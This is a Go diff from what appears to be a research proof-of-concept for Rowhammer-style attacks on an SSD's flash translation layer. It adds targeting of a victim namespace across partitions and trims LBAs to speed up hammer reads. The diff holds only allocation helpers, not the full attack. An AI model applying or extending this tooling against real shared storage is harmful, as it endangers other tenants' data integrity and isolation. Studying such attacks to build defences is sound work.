@@ -22,20 +22,20 @@ func prepare(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, lba ftl.LBA, 
 	return dev.Write(ns, lba, buf, path)
 }
 
-// pinAndTrim reduces each binding side to its first LBA and trims it,
-// so every hammer read takes the fast, flash-skipping trimmed path —
-// the acceleration the §3 threat model calls out.
-func pinAndTrim(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, bindings []Binding) error {
-	for i := range bindings {
-		b := &bindings[i]
-		for s := range b.Sides {
-			b.Sides[s] = b.Sides[s][:1]
-			if err := dev.Trim(ns, b.Sides[s][0], path); err != nil {
-				return err
-			}
+// PinAndTrim returns a copy of b whose sides each keep only their first
+// LBA, and trims those LBAs, so every hammer read takes the fast,
+// flash-skipping trimmed path — the acceleration the §3 threat model
+// calls out. The copy owns a fresh Sides slice, so b is left untouched.
+func PinAndTrim(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, b Binding) (Binding, error) {
+	sides := make([][]ftl.LBA, len(b.Sides))
+	for s, group := range b.Sides {
+		sides[s] = group[:1]
+		if err := dev.Trim(ns, group[0], path); err != nil {
+			return b, err
 		}
 	}
-	return nil
+	b.Sides = sides
+	return b, nil
 }
 
 // ContiguousAllocator is the paper's placement: the linear L2P layout
@@ -45,23 +45,23 @@ func pinAndTrim(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, bindings [
 type ContiguousAllocator struct {
 	// MaxBindings bounds the result (0: all).
 	MaxBindings int
-	// KeepSides leaves the full per-side LBA groups intact and skips
-	// the trim (slow path) — used when the caller manages trims itself.
-	KeepSides bool
+	// VictimNSID, when non-zero, binds cross-partition triples whose
+	// victim rows hold that namespace's translations (§4.2); zero binds
+	// triples within the attacker's own partition (Figure 1).
+	VictimNSID int
 }
 
-// Allocate analyzes the attacker's own partition and readies the
-// fast-read path.
+// Allocate analyzes the layout and readies the fast-read path.
 func (a *ContiguousAllocator) Allocate(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, sides int) ([]Binding, error) {
-	bindings, err := Analyze(dev, ns, AnalyzeOptions{Sides: sides})
+	bindings, err := Analyze(dev, ns, AnalyzeOptions{VictimNSID: a.VictimNSID, Sides: sides})
 	if err != nil {
 		return nil, err
 	}
 	if a.MaxBindings > 0 && len(bindings) > a.MaxBindings {
 		bindings = bindings[:a.MaxBindings]
 	}
-	if !a.KeepSides {
-		if err := pinAndTrim(dev, ns, path, bindings); err != nil {
+	for i := range bindings {
+		if bindings[i], err = PinAndTrim(dev, ns, path, bindings[i]); err != nil {
 			return nil, err
 		}
 	}
@@ -136,8 +136,10 @@ func (a *SprayedAllocator) Allocate(dev *nvme.Device, ns *nvme.Namespace, path n
 	if a.MaxBindings > 0 && len(ordered) > a.MaxBindings {
 		ordered = ordered[:a.MaxBindings]
 	}
-	if err := pinAndTrim(dev, ns, path, ordered); err != nil {
-		return nil, err
+	for i := range ordered {
+		if ordered[i], err = PinAndTrim(dev, ns, path, ordered[i]); err != nil {
+			return nil, err
+		}
 	}
 	return ordered, nil
 }
